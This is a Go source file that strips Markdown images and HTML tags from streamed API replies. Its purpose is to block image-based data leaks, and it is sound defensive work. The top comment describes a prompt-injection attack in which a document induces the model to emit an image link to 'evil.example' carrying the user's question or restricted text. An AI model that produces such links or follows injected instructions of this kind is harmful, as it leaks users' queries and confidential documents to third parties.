package server

import "strings"

// Clients of the OpenAI-compatible API (/v1) render replies as Markdown,
// and many render HTML in it too. An image in a reply is fetched as soon
// as it is shown, without a click: a document, or a model a document
// talked into it, could write ![x](https://evil.example/?q=<the
// question>) and have the client send what the user asked, or passages of
// restricted documents, to another site. So every text /v1 sends — the
// answer, streamed or not, and the titles and snippets of its sources —
// passes through imageGuard: a Markdown image becomes "[image: alt]", with
// its URL dropped, and "<" starting an HTML tag ("<img", "<svg",
// "</…", "<!--") becomes "&lt;", which Markdown shows as "<" but never
// reads as a tag. Other text is left as it is.

// maxImageHold bounds the text held back while an image is undecided
// (its alt text or URL not yet closed); past it, the image is cut short
// as text that loads nothing.
const maxImageHold = 4096

// imageGuard neutralises images in a text that arrives in pieces (the
// tokens of a streamed answer): write returns what may be sent now and
// holds back the start of an image or tag not yet complete; flush
// returns the rest at the end. The zero value is ready to use.
type imageGuard struct {
	held string
}

func (g *imageGuard) write(s string) string {
	out, rest := scanImages(g.held+s, false)
	g.held = rest
	return out
}

func (g *imageGuard) flush() string {
	out, _ := scanImages(g.held, true)
	g.held = ""
	return out
}

// neutraliseImages is imageGuard over a whole text.
func neutraliseImages(s string) string {
	out, _ := scanImages(s, true)
	return out
}

// scanImages returns s with its images and tags neutralised up to the
// first one that more text could still change, and that rest; with final
// there is no more text, and rest is "".
func scanImages(s string, final bool) (out, rest string) {
	var b strings.Builder
	for i := 0; i < len(s); {
		switch s[i] {
		case '<':
			if i+1 == len(s) && !final {
				return b.String(), s[i:]
			}
			if i+1 < len(s) && startsTag(s[i+1]) {
				b.WriteString("&lt;")
			} else {
				b.WriteByte('<')
			}
			i++
		case '!':
			n, repl, ok := image(s[i:], final || len(s)-i > maxImageHold)
			if !ok {
				return b.String(), s[i:]
			}
			b.WriteString(repl)
			i += n
		default:
			b.WriteByte(s[i])
			i++
		}
	}
	return b.String(), ""
}

// startsTag reports whether c after "<" makes it HTML: a tag name, an end
// tag, a comment or declaration, a processing instruction.
func startsTag(c byte) bool {
	return 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || c == '/' || c == '!' || c == '?'
}

// image reads s, which starts with "!", and returns how many bytes of it
// it consumed and what replaces them: "!" itself when no image follows,
// "[image: alt]" for ![alt](url), ![alt][ref] and ![alt]. ok is false
// when more text is needed to tell; with force it always decides, and an
// image cut short loses its "!" and the "(" or "[" of its URL, so that
// what follows is text.
func image(s string, force bool) (n int, repl string, ok bool) {
	if len(s) < 2 {
		return 1, "!", force
	}
	if s[1] != '[' {
		return 1, "!", true
	}
	end := closing(s, 1, '[', ']')
	if end < 0 {
		if !force {
			return 0, "", false
		}
		return 1, "", true // "[" and what follows stay as text
	}
	label := "[image: " + strings.TrimSpace(neutraliseImages(s[2:end])) + "]"
	k := end + 1
	if k == len(s) {
		return k, label, force
	}
	open, shut := s[k], byte(0)
	switch open {
	case '(':
		shut = ')'
	case '[':
		shut = ']'
	default: // ![alt] alone: a shortcut reference, an image all the same
		return k, label, true
	}
	if m := closing(s, k, open, shut); m >= 0 {
		return m + 1, label, true
	}
	if !force {
		return 0, "", false
	}
	return k + 1, label + `\` + string(open), true
}

// closing returns the index of the shut that closes the open at s[at],
// counting nested pairs and skipping backslash escapes, or -1.
func closing(s string, at int, open, shut byte) int {
	depth := 0
	for i := at; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case open:
			depth++
		case shut:
			if depth--; depth == 0 {
				return i
			}
		}
	}
	return -1
}
